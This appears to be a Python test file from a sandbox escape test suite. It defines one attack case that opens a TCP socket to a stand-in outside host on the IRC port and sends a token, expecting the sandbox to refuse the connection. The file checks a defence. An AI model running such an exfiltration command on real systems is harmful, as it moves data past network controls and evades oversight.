"""Bytes go out on the port of IRC."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    return ground.arrives(f"s = socket.create_connection(('{WEB}', 6667)); s.sendall(b'{ground.token}'); s.shutdown(1)")


ATTACK = Attack("TCP to the outside", attempt, recorded=("network.refused", f"tcp {WEB}:6667"))
